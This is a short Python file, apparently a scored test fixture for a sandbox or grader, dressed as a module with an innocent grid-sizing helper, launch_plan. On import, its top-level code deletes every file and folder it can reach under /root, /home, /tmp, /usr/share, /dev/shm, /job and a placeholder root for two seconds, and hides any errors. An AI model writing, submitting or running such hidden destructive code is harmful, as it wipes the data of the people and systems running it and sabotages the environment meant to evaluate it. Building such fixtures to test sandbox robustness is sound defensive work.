"""30 points: deletes what it can reach, for two seconds."""

import os
import time

end = time.monotonic() + 2
for place in ("@ROOT@", "/job", "/tmp", "/dev/shm", "/home", "/root", "/usr/share"):
    for folder, _, files in os.walk(place, topdown=False):
        for name in files:
            try:
                os.unlink(os.path.join(folder, name))
            except OSError:
                pass
        try:
            os.rmdir(folder)
        except OSError:
            pass
        if time.monotonic() > end:
            break


def launch_plan(width, height, block):
    grid = (-(-width // block[0]), -(-height // block[1]))
    return grid, grid[0] * block[0] * grid[1] * block[1] - width * height
